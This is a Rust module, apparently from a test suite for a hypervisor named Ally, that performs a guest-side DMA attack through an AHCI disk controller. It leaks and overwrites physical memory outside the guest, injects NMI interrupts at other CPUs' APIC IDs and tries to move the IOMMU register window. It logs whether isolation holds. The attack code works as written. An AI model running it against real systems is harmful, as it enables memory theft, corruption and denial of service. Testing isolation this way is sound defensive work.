//! Issue 14's DMA attack: the guest programs a bus master, the q35 machine's ICH9 AHCI
//! controller (no kernel driver owns it: the guest runs from its initramfs), to read and write
//! physical memory it does not own. Without an IOMMU the device reaches any address, Ally's
//! hidden region included; with one, Ally's DMA domain must refuse it and log the fault.
//!
//! Steps, each one ATA command on port 0 (the disk), on LBAs in the disk's last MiB only (the
//! guest's boot files lie at its start):
//!
//! 1. control: WRITE DMA EXT of a pattern from the attacker's own page to a scratch sector and
//!    READ DMA EXT of it back into the page; they must match (the DMA path works).
//! 2. leak: a zeroed scratch sector, then WRITE DMA EXT from the target address T to it, then
//!    READ DMA EXT of it into the page: non-zero bytes came from T.
//! 3. overwrite: a pattern sector, then READ DMA EXT of it into T.
//!
//! 4. interrupts: a sector of NMI messages (each doubleword 0x0000_0400: delivery mode NMI,
//!    SDM Vol. 3 11.11.2) read by the device into the interrupt window 0xFEEx_x000 of every
//!    APIC ID from 0 to 7 the guest's own CPUs do not have (where Ally's DPI cores are). Each
//!    doubleword the device writes there is a message: without interrupt remapping an NMI
//!    at that CPU (Ally counts the NMIs its cores take: `ALLY root-nmis`); with it, nothing
//!    but the entries Ally wrote for the device.
//!
//! 5. the guest's own MSI, through Ally's remapping where there is one: the AHCI function's
//!    MSI capability is programmed (address 0xFEE0_0000 with the guest's own APIC ID, data
//!    0xFD: Linux's reschedule vector, whose handler only counts it in /proc/interrupts' RES
//!    row) and enabled, and one command runs with the port's completion interrupt on. The
//!    RES count must grow: the guest's MSI programming keeps working.
//!
//! Marker: `ALLYTEST attack-dma INFO ahci=00:1f.2 ... target=0x.. control=ok leak_status=..
//! leak_bytes_nonzero=N leak_digest=.. overwrite_status=.. msi_targets=1,2,.. msi_status=..
//! own_msi_status=.. res_before=N res_after=M errors=..`.

use crate::ahci::{self, layout, AtaCommand, Completion, Port, SECTOR};
use crate::marker::Marker;
use crate::pci;
use crate::sys::{self, PhysMap, PAGE};

/// Sectors at the end of the disk the attack may use: its last MiB.
const SCRATCH_SECTORS: u64 = (1 << 20) / SECTOR as u64;
/// The sectors it does use, counted back from the last: control, leak, overwrite source.
const CONTROL_FROM_END: u64 = 1;
const LEAK_FROM_END: u64 = 2;
const OVERWRITE_FROM_END: u64 = 3;

/// PCI command register (config offset 04h): memory space and bus master enable (PCI Local
/// Bus 3.0, 6.2.2).
const PCI_COMMAND: u64 = 0x04;
const COMMAND_MEMORY: u16 = 1 << 1;
const COMMAND_BUS_MASTER: u16 = 1 << 2;

/// The first page above the highest top-level `System RAM` range below 4 GiB of `/proc/iomem`
/// (as root, which sees the addresses): where Ally's region starts, cut from the guest's E820.
pub fn iomem_target(iomem: &str) -> Option<u64> {
    iomem
        .lines()
        // Nested resources are indented; the RAM ranges are top-level.
        .filter(|l| !l.starts_with(' '))
        .filter_map(|l| {
            let (range, name) = l.split_once(" : ")?;
            (name.trim() == "System RAM").then_some(())?;
            let (start, end) = range.split_once('-')?;
            let start = u64::from_str_radix(start.trim(), 16).ok()?;
            let end = u64::from_str_radix(end.trim(), 16).ok()?;
            (end < 1 << 32 && end > start).then_some(end)
        })
        .max()
        .map(|end| (end + 1).next_multiple_of(PAGE as u64))
}

/// A sector's worth of a recognisable pattern: `tag` and the LBA, repeated.
pub fn pattern(tag: &str, lba: u64) -> Vec<u8> {
    format!("{tag}-{lba:08x}-")
        .bytes()
        .cycle()
        .take(SECTOR)
        .collect()
}

/// FNV-1a (64-bit) of `data`, as 16 hex digits: a short digest to compare leaks by.
pub fn digest(data: &[u8]) -> String {
    let h = data.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, &b| {
        (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01b3)
    });
    format!("{h:016x}")
}

/// The first `n` bytes as hex.
pub fn hex_head(data: &[u8], n: usize) -> String {
    data.iter().take(n).map(|b| format!("{b:02x}")).collect()
}

/// The scratch LBAs on a disk of `sectors`, or `None` when it has no spare last MiB (a disk of
/// at least 2 MiB).
pub fn scratch_lbas(sectors: u64) -> Option<[u64; 3]> {
    (sectors >= 2 * SCRATCH_SECTORS)
        .then(|| [CONTROL_FROM_END, LEAK_FROM_END, OVERWRITE_FROM_END].map(|back| sectors - back))
}

/// The failed steps: `step:status:registers` each, `,`-joined; `none` without any.
#[derive(Debug, Default)]
struct Errors(Vec<String>);

impl Errors {
    /// Records `c` when it failed; returns it.
    fn note(&mut self, step: &str, c: Completion) -> Completion {
        if !c.ok() {
            self.0
                .push(format!("{step}:{}:{}", c.status(), c.registers()));
        }
        c
    }

    fn word(&self) -> String {
        if self.0.is_empty() {
            "none".into()
        } else {
            self.0.join(",")
        }
    }
}

/// The attack on one opened port: fills the marker, step by step.
struct Attack<'p, 'a> {
    port: &'p Port<'a>,
    errors: Errors,
}

impl Attack<'_, '_> {
    fn buffer(&self, offset: usize) -> u64 {
        self.port.phys(offset)
    }

    fn fill(&self, offset: usize, data: &[u8]) {
        self.port.page().bytes()[offset..offset + data.len()].copy_from_slice(data);
    }

    fn run(&mut self, step: &str, command: AtaCommand, lba: u64, data: u64) -> Completion {
        let c = self.port.command(command, lba, 1, data);
        self.errors.note(step, c)
    }

    /// IDENTIFY DEVICE: the disk's sectors.
    fn sectors(&mut self) -> Result<u64, String> {
        self.fill(layout::BUFFER_A, &[0; SECTOR]);
        let c = self
            .port
            .command(AtaCommand::Identify, 0, 0, self.buffer(layout::BUFFER_A));
        if !c.ok() {
            return Err(format!("identify_{}_{}", c.status(), c.registers()));
        }
        ahci::identify_sectors(&self.port.read_buffer(layout::BUFFER_A, SECTOR))
            .ok_or_else(|| "identify_no_sector_count".to_string())
    }

    /// Step 1: a pattern written from and read back into the attacker's own page.
    fn control(&mut self, m: &mut Marker, lba: u64) -> bool {
        let expect = pattern("ALLY-DMA-CONTROL", lba);
        self.fill(layout::BUFFER_A, &expect);
        self.fill(layout::BUFFER_B, &[0; SECTOR]);
        let w = self.run(
            "control_write",
            AtaCommand::WriteDmaExt,
            lba,
            self.buffer(layout::BUFFER_A),
        );
        let r = self.run(
            "control_read",
            AtaCommand::ReadDmaExt,
            lba,
            self.buffer(layout::BUFFER_B),
        );
        let back = self.port.read_buffer(layout::BUFFER_B, SECTOR);
        let verdict = if !w.ok() {
            format!("write_{}", w.status())
        } else if !r.ok() {
            format!("read_{}", r.status())
        } else if back != expect {
            "mismatch".into()
        } else {
            "ok".into()
        };
        m.field("control", &verdict)
            .field("control_bytes", r.bytes());
        verdict == "ok"
    }

    /// Step 2: the device reads `target` onto a zeroed sector, which comes back into the page.
    fn leak(&mut self, m: &mut Marker, lba: u64, target: u64) {
        self.fill(layout::BUFFER_A, &[0; SECTOR]);
        let zeroed = self.run(
            "leak_zero",
            AtaCommand::WriteDmaExt,
            lba,
            self.buffer(layout::BUFFER_A),
        );
        let leak = self.run("leak", AtaCommand::WriteDmaExt, lba, target);
        self.fill(layout::BUFFER_B, &[0xff; SECTOR]);
        let back = self.run(
            "leak_readback",
            AtaCommand::ReadDmaExt,
            lba,
            self.buffer(layout::BUFFER_B),
        );
        m.field("leak_status", leak.status())
            .field("leak_bytes", leak.bytes());
        if !zeroed.ok() || !back.ok() {
            // Without a zeroed sector read back, what is there proves nothing.
            m.field(
                "leak_readback",
                format!("{}/{}", zeroed.status(), back.status()),
            );
            return;
        }
        let data = self.port.read_buffer(layout::BUFFER_B, SECTOR);
        m.field(
            "leak_bytes_nonzero",
            data.iter().filter(|&&b| b != 0).count(),
        )
        .field("leak_digest", digest(&data))
        .field("leak_head", hex_head(&data, 16));
    }

    /// Step 3: a pattern sector read by the device into `target`.
    fn overwrite(&mut self, m: &mut Marker, lba: u64, target: u64) {
        self.fill(layout::BUFFER_A, &pattern("ALLY-DMA-OVERWRITE", lba));
        let source = self.run(
            "overwrite_source",
            AtaCommand::WriteDmaExt,
            lba,
            self.buffer(layout::BUFFER_A),
        );
        if !source.ok() {
            m.field("overwrite_status", format!("source_{}", source.status()));
            return;
        }
        let w = self.run("overwrite", AtaCommand::ReadDmaExt, lba, target);
        m.field("overwrite_status", w.status())
            .field("overwrite_bytes", w.bytes());
    }
}

impl Attack<'_, '_> {
    /// Step 4: a sector of NMI messages read by the device into the interrupt window of each
    /// APIC ID in `apic_ids`.
    fn interrupts(&mut self, m: &mut Marker, lba: u64, apic_ids: &[u32]) {
        let nmis: Vec<u8> = (0..SECTOR / 4)
            .flat_map(|_| NMI_MESSAGE.to_le_bytes())
            .collect();
        self.fill(layout::BUFFER_A, &nmis);
        let source = self.run(
            "msi_source",
            AtaCommand::WriteDmaExt,
            lba,
            self.buffer(layout::BUFFER_A),
        );
        let targets: Vec<String> = apic_ids.iter().map(u32::to_string).collect();
        m.field("msi_targets", targets.join(","));
        if !source.ok() {
            m.field("msi_status", format!("source_{}", source.status()));
            return;
        }
        let statuses: Vec<String> = apic_ids
            .iter()
            .map(|&id| {
                let window = INTERRUPT_WINDOW | (u64::from(id) << 12);
                self.run("msi", AtaCommand::ReadDmaExt, lba, window)
                    .status()
            })
            .collect();
        m.field("msi_status", statuses.join(","));
    }
}

impl Attack<'_, '_> {
    /// Step 5: the guest's own MSI (see the module's documentation).
    fn own_msi(&mut self, m: &mut Marker, config: &str, lba: u64) {
        let result = (|| -> Result<(u64, u64), String> {
            let msi = msi_capability(config)?;
            let own = own_apic_ids(&std::fs::read_to_string("/proc/cpuinfo").unwrap_or_default())
                .first()
                .copied()
                .ok_or("no_own_apic_id")?;
            let control = sys::pread_u32(config, msi).map_err(|e| e.to_string())?;
            let wide = control & (MSI_64BIT << 16) != 0;
            let data_at = msi + if wide { 0xC } else { 8 };
            let saved = (
                sys::pread_u32(config, msi + 4).map_err(|e| e.to_string())?,
                sys::pread_u32(config, data_at).map_err(|e| e.to_string())?,
            );
            let write = |at: u64, v: &[u8]| sys::pwrite(config, at, v).map_err(|e| e.to_string());
            write(
                msi + 4,
                &(INTERRUPT_WINDOW as u32 | (own << 12)).to_le_bytes(),
            )?;
            if wide {
                write(msi + 8, &0u32.to_le_bytes())?;
            }
            write(data_at, &RESCHEDULE_VECTOR.to_le_bytes())?;
            write(
                msi + 2,
                &((control >> 16) as u16 | MSI_ENABLE).to_le_bytes(),
            )?;
            let before = reschedule_count();
            self.port.interrupts(true);
            let c = self.run(
                "own_msi",
                AtaCommand::ReadDmaExt,
                lba,
                self.buffer(layout::BUFFER_B),
            );
            std::thread::sleep(std::time::Duration::from_millis(200));
            let after = reschedule_count();
            self.port.interrupts(false);
            write(
                msi + 2,
                &((control >> 16) as u16 & !MSI_ENABLE).to_le_bytes(),
            )?;
            write(msi + 4, &saved.0.to_le_bytes())?;
            write(data_at, &(saved.1 as u16).to_le_bytes())?;
            if !c.ok() {
                return Err(format!("command_{}", c.status()));
            }
            Ok((before, after))
        })();
        match result {
            Ok((before, after)) => {
                m.field("own_msi_status", "ok")
                    .field("res_before", before)
                    .field("res_after", after);
            }
            Err(e) => {
                m.field("own_msi_status", e);
            }
        }
    }
}

/// Step 0: the AMD-Vi IOMMU's PCI function (class 08h/06h) holds its register window's base
/// in its capability block (ID 0Fh, 48882 3.2.2); the guest tries to move it (base low
/// dword, enable bit set) and reads it back.
fn iommu_capability(m: &mut Marker) {
    let Some(name) = pci::find_class(CLASS_IOMMU) else {
        m.field("iommu_cap", "none");
        return;
    };
    let config = format!("{}/{name}/config", pci::SYSFS_DEVICES);
    m.field("iommu_cap", pci::short_bdf(&name));
    let result = (|| -> Result<(u32, u32), String> {
        let at = capability(&config, CAP_ID_SECURE_DEVICE)? + 4;
        let before = sys::pread_u32(&config, at).map_err(|e| e.to_string())?;
        sys::pwrite(&config, at, &IOMMU_BASE_ATTEMPT.to_le_bytes()).map_err(|e| e.to_string())?;
        let after = sys::pread_u32(&config, at).map_err(|e| e.to_string())?;
        if after != before {
            // It moved: put it back.
            let _ = sys::pwrite(&config, at, &before.to_le_bytes());
        }
        Ok((before, after))
    })();
    match result {
        Ok((before, after)) => {
            m.hex("iommu_cap_before", before.into())
                .hex("iommu_cap_after", after.into());
        }
        Err(e) => {
            m.field("iommu_cap_error", e);
        }
    }
}

/// The IOMMU's class code (PCI Code and ID Assignment 1.x: base 08h, subclass 06h).
const CLASS_IOMMU: u32 = 0x08_06_00;
/// Capability ID of the AMD-Vi IOMMU's block ("secure device", 48882 3.2.1).
const CAP_ID_SECURE_DEVICE: u8 = 0x0F;
/// Where the attack would move the register window: guest RAM, enable bit 0 set.
const IOMMU_BASE_ATTEMPT: u32 = 0x0100_0001;

/// The offset of the function's MSI capability (PCI 3.0 6.7: the list from 34h, ID 05h).
fn msi_capability(config: &str) -> Result<u64, String> {
    capability(config, 0x05)
}

/// The offset of the function's first capability with ID `id` (PCI 3.0 6.7: the list from
/// 34h).
fn capability(config: &str, id: u8) -> Result<u64, String> {
    let mut at = sys::pread_u32(config, 0x34).map_err(|e| e.to_string())? as u8 & 0xFC;
    for _ in 0..48 {
        if at < 0x40 {
            break;
        }
        let header = sys::pread_u32(config, u64::from(at)).map_err(|e| e.to_string())?;
        if header as u8 == id {
            return Ok(u64::from(at));
        }
        at = (header >> 8) as u8 & 0xFC;
    }
    Err(format!("no_capability_{id:#04x}"))
}

/// Linux's reschedule IPI vector (arch/x86/include/asm/irq_vectors.h): its handler counts
/// it in /proc/interrupts' RES row and asks the scheduler to look, nothing more.
const RESCHEDULE_VECTOR: u16 = 0xFD;
/// MSI Message Control: enable (bit 0) and 64-bit address capable (bit 7), PCI 3.0 6.8.1.3.
const MSI_ENABLE: u16 = 1 << 0;
const MSI_64BIT: u32 = 1 << 7;

/// The sum of /proc/interrupts' RES row.
fn reschedule_count() -> u64 {
    std::fs::read_to_string("/proc/interrupts")
        .map(|t| row_sum(&t, "RES:"))
        .unwrap_or(0)
}

/// The sum of the per-CPU counts of the /proc/interrupts row named `name`.
fn row_sum(interrupts: &str, name: &str) -> u64 {
    interrupts
        .lines()
        .map(str::trim_start)
        .find(|l| l.starts_with(name))
        .map(|l| {
            l[name.len()..]
                .split_whitespace()
                .map_while(|w| w.parse::<u64>().ok())
                .sum()
        })
        .unwrap_or(0)
}

/// An MSI's data with delivery mode NMI (bits 10:8 = 100b); the vector is ignored.
const NMI_MESSAGE: u32 = 0x0000_0400;
/// The interrupt window (SDM Vol. 3 11.11.1): destination APIC ID in address bits 19:12.
const INTERRUPT_WINDOW: u64 = 0xFEE0_0000;
/// APIC IDs the attack tries.
const APIC_IDS: std::ops::Range<u32> = 0..8;

/// The APIC IDs of `APIC_IDS` that no CPU of the guest has (from /proc/cpuinfo).
fn other_apic_ids() -> Vec<u32> {
    let own = std::fs::read_to_string("/proc/cpuinfo")
        .map(|c| own_apic_ids(&c))
        .unwrap_or_default();
    APIC_IDS.filter(|id| !own.contains(id)).collect()
}

/// The `apicid` values of a /proc/cpuinfo.
fn own_apic_ids(cpuinfo: &str) -> Vec<u32> {
    cpuinfo
        .lines()
        .filter_map(|l| l.split_once(':'))
        .filter(|(k, _)| k.trim() == "apicid")
        .filter_map(|(_, v)| v.trim().parse().ok())
        .collect()
}

/// The AHCI controller's ABAR, mapped through its sysfs resource file.
fn map_abar(name: &str) -> Result<(u64, PhysMap), String> {
    let dir = format!("{}/{name}", pci::SYSFS_DEVICES);
    let resources =
        std::fs::read_to_string(format!("{dir}/resource")).map_err(|e| format!("resource:{e}"))?;
    let (start, end) = pci::resource_range(&resources, ahci::ABAR_BAR)
        .filter(|&(s, e)| s != 0 && e > s)
        .ok_or("no_abar")?;
    let len = usize::try_from(end - start + 1)
        .map_err(|_| "abar_too_big")?
        .next_multiple_of(PAGE);
    let map = PhysMap::open(&format!("{dir}/resource{}", ahci::ABAR_BAR), 0, len)
        .map_err(|e| e.to_string())?;
    Ok((start, map))
}

/// Turns on memory decoding and bus mastering; returns the command register as it was.
fn enable_bus_master(config: &str) -> Result<u16, String> {
    let before = sys::pread_u32(config, PCI_COMMAND).map_err(|e| e.to_string())? as u16;
    let want = before | COMMAND_MEMORY | COMMAND_BUS_MASTER;
    if want != before {
        sys::pwrite(config, PCI_COMMAND, &want.to_le_bytes()).map_err(|e| e.to_string())?;
    }
    Ok(before)
}

/// Where the attack aims: `--target`, else the first page above the guest's RAM below 4 GiB.
fn target(given: Option<u64>) -> Result<(u64, &'static str), String> {
    if let Some(t) = given {
        return Ok((t, "argument"));
    }
    let iomem = std::fs::read_to_string("/proc/iomem").map_err(|e| format!("iomem:{e}"))?;
    iomem_target(&iomem)
        .map(|t| (t, "iomem"))
        .ok_or_else(|| "no_system_ram_below_4GiB".into())
}

/// The DMA attack (see the module's documentation). `skipped=no_ahci` where the machine has
/// no AHCI controller (the `pc` machine and Bochs have IDE).
pub fn dma(given_target: Option<u64>) -> Marker {
    let mut m = Marker::new("attack-dma");
    let Some(name) = pci::find_class(ahci::CLASS_AHCI) else {
        m.field("skipped", "no_ahci");
        return m;
    };
    m.field("ahci", pci::short_bdf(&name));
    iommu_capability(&mut m);
    let (target, from) = match target(given_target) {
        Ok(t) => t,
        Err(e) => {
            m.field("error", e);
            return m;
        }
    };
    m.hex("target", target).field("target_from", from);
    let config = format!("{}/{name}/config", pci::SYSFS_DEVICES);
    let command_before = match enable_bus_master(&config) {
        Ok(c) => c,
        Err(e) => {
            m.field("error", e);
            return m;
        }
    };
    m.hex("pci_command", command_before.into());
    match map_abar(&name) {
        Ok((abar, map)) => {
            m.hex("abar", abar);
            attack_port(&mut m, &map, target, &config);
            m.field("port_stopped", u8::from(ahci::port_idle(&map, 0)));
        }
        Err(e) => {
            m.field("error", e);
        }
    }
    // Bus mastering back as it was: the port is stopped and points at the firmware's memory.
    if let Err(e) = sys::pwrite(&config, PCI_COMMAND, &command_before.to_le_bytes()) {
        m.field("pci_command_restore", e);
    }
    m
}

/// Opens port 0, runs the three steps, and stops the port again (`Port`'s drop).
fn attack_port(m: &mut Marker, abar: &PhysMap, target: u64, config: &str) {
    let port = match Port::open(abar, 0) {
        Ok(p) => p,
        Err(e) => {
            m.field("error", e);
            return;
        }
    };
    let mut a = Attack {
        port: &port,
        errors: Errors::default(),
    };
    let sectors = match a.sectors() {
        Ok(n) => n,
        Err(e) => {
            m.field("error", e);
            return;
        }
    };
    m.field("sectors", sectors);
    let Some([control, leak, overwrite]) = scratch_lbas(sectors) else {
        m.field("error", format_args!("disk_too_small_{sectors}"));
        return;
    };
    m.field("scratch_lba", overwrite);
    if a.control(m, control) {
        a.leak(m, leak, target);
        a.overwrite(m, overwrite, target);
        a.interrupts(m, overwrite, &other_apic_ids());
        a.own_msi(m, config, control);
    } else {
        m.field("leak_status", "not_run")
            .field("overwrite_status", "not_run")
            .field("msi_status", "not_run");
    }
    m.field("errors", a.errors.word());
}

#[cfg(test)]
mod tests {
    use super::*;

    /// /proc/iomem of the q35 guest under Ally (1 GiB, Ally's region from 0x38600000).
    const IOMEM: &str = "00000000-00000fff : Reserved
00001000-0009dfff : System RAM
0009fc00-0009ffff : Reserved
000f0000-000fffff : Reserved
  000f0000-000fffff : System ROM
00100000-385fffff : System RAM
  01000000-01c00fff : Kernel code
3ffdf000-3fffffff : Reserved
b0000000-bfffffff : PCI MMCONFIG 0000 [bus 00-ff]
fd00000000-ffffffffff : Reserved
100000000-13fffffff : System RAM
";

    #[test]
    fn the_target_is_the_page_above_the_highest_ram_below_4_gib() {
        assert_eq!(iomem_target(IOMEM), Some(0x3860_0000));
        // An end that is not page-aligned rounds up.
        assert_eq!(
            iomem_target("00100000-3ffdefff : System RAM\n"),
            Some(0x3ffd_f000)
        );
        assert_eq!(
            iomem_target("00100000-00107ffe : System RAM\n"),
            Some(0x10_8000)
        );
        // Nested and non-RAM ranges are ignored; RAM above 4 GiB too.
        assert_eq!(iomem_target("  00100000-385fffff : System RAM\n"), None);
        assert_eq!(iomem_target("100000000-13fffffff : System RAM\n"), None);
        assert_eq!(iomem_target(""), None);
    }

    #[test]
    fn a_proc_interrupts_row_is_summed_over_the_cpus() {
        let t = "           CPU0       CPU1\n  0:         44          0   IO-APIC   2-edge      timer\n RES:         3          4   Rescheduling interrupts\n CAL:        10         12   Function call interrupts\n";
        assert_eq!(row_sum(t, "RES:"), 7);
        assert_eq!(row_sum(t, "CAL:"), 22);
        assert_eq!(row_sum(t, "NMI:"), 0);
    }

    #[test]
    fn the_guests_own_apic_ids_come_from_cpuinfo() {
        let cpuinfo =
            "processor\t: 0\napicid\t\t: 0\ninitial apicid\t: 0\n\nprocessor\t: 1\napicid\t\t: 2\n";
        assert_eq!(own_apic_ids(cpuinfo), vec![0, 2]);
        assert_eq!(own_apic_ids(""), Vec::<u32>::new());
    }

    #[test]
    fn scratch_sectors_lie_in_the_last_mib() {
        let n = 131_072; // 64 MiB
        let lbas = scratch_lbas(n).unwrap();
        assert_eq!(lbas, [n - 1, n - 2, n - 3]);
        assert!(lbas.iter().all(|&l| l >= n - SCRATCH_SECTORS && l < n));
        assert_eq!(scratch_lbas(2 * SCRATCH_SECTORS - 1), None);
    }

    #[test]
    fn patterns_digests_and_heads() {
        let p = pattern("ALLY-DMA-CONTROL", 0x1ffff);
        assert_eq!(p.len(), SECTOR);
        assert!(p.starts_with(b"ALLY-DMA-CONTROL-0001ffff-ALLY"));
        assert_ne!(p, pattern("ALLY-DMA-CONTROL", 0x1fffe));
        // FNV-1a's offset basis for no data, and its published value for "a".
        assert_eq!(digest(b""), "cbf29ce484222325");
        assert_eq!(digest(b"a"), "af63dc4c8601ec8c");
        assert_eq!(hex_head(&[0xd6, 0x50, 0x52, 0xe8, 0], 4), "d65052e8");
    }

    #[test]
    fn errors_list_failed_steps_only() {
        let mut e = Errors::default();
        e.note(
            "control_write",
            Completion::Done {
                bytes: 512,
                tfd: 0x50,
            },
        );
        assert_eq!(e.word(), "none");
        e.note(
            "leak",
            Completion::Error {
                is: ahci::IS_HBFS,
                tfd: 0x50,
                bytes: 0,
            },
        );
        assert_eq!(e.word(), "leak:hbfs:is=0x20000000:tfd=0x50");
    }
}
